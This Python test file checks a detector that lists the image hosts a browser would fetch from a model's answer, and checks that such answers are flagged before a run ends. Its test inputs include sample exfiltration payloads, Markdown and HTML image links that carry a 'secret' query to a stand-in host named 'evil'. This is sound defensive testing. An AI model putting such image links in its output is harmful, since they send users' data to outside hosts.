"""Images in an answer (fault B42, S35): what a browser would fetch is seen, what it would not is left alone."""

from __future__ import annotations

import time

import pytest

from agent_exec.contract.completion import CompletionResponse, Usage
from agent_exec.contract.event import EventName
from agent_exec.errors import LimitExceeded
from tasks.image_links import image_hosts
from tasks.next_step import AskModel, Fail, Finish, Next
from tasks.step import Done
from tests.tasks.conftest import Bench, returning
from tests.tasks.test_agent_loop import snapshot


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("![x](https://evil/?q=secret)", ["evil"]),
        ("![x](//evil.example:8080/a.png)", ["evil.example:8080"]),
        ("![](<https://evil>)", ["evil"]),
        ("[![x](https://evil/a)](https://fine/)", ["evil"]),
        ("![x][1]\n\n[1]: https://evil/a", ["evil"]),
        ("![x]\n\n[x]: https://evil/a", ["evil"]),
        ("<img src='https://evil/x'>", ["evil"]),
        ('<IMG alt="a"\n SRC = "HTTPS://evil/x">', ["evil"]),
        ("<img src=https://evil/x onerror=1>", ["evil"]),
        ("<source srcset='//evil/x 2x'>", ["evil"]),
        ("<link rel=stylesheet href=https://evil/x>", ["evil"]),
        ("![a](https://one/) ![b](https://two/) ![c](https://one/)", ["one", "two"]),
        ("".join(f"![](https://h{number}/)" for number in range(20)), [f"h{number}" for number in range(10)]),
        ("", []),
        ("[a link](https://fine/), https://fine/ and <https://fine/>", []),
        ("[1]: https://fine/", []),
        ("![x](picture.png) ![y](data:image/png;base64,AA)", []),
        ("<a href='https://fine/'>", []),
        ("if a![0] < b: print('//not/one')", []),
    ],
)
def test_images_are_told_by_their_hosts(text: str, hosts: list[str]) -> None:
    assert image_hosts(text) == hosts


@pytest.mark.parametrize(
    "text", ["![" * 300_000, "<img " * 150_000, "[a" * 300_000, "<img " + " src= " * 150_000, "!" * 600_000]
)
def test_no_text_makes_it_slow(text: str) -> None:
    began = time.process_time()
    assert image_hosts(text) == []
    assert time.process_time() - began < 5


ANSWER = CompletionResponse(
    provider="openai", model="m", text="Look: ![x](https://evil/?q=1)", finish_reason="stop", usage=Usage()
)


@pytest.mark.parametrize(
    ("follows", "end"),
    [
        (Finish(ANSWER, structured=None), EventName.COMPLETED),
        (Fail(LimitExceeded("no"), answer=ANSWER), EventName.FAILED),
    ],
)
async def test_an_answer_with_images_is_flagged_before_its_end(bench: Bench, follows: Next, end: EventName) -> None:
    fixed = snapshot()
    await bench.run("prompt", returning(Done(fixed.model_dump_json(), [], AskModel(1), snapshot=fixed)))
    await bench.run("completion.1", returning(Done(ANSWER.model_dump_json(), [], follows)))
    flagged, last = (await bench.events())[-2:]
    assert (flagged.name, last.name) == (EventName.PROGRESS, end)
    assert '"stage":"flagged"' in flagged.json
    assert '"image_hosts":["evil"]' in flagged.json
    assert (await bench.response()).output.text == ANSWER.text, "it is the caller's to show or not"
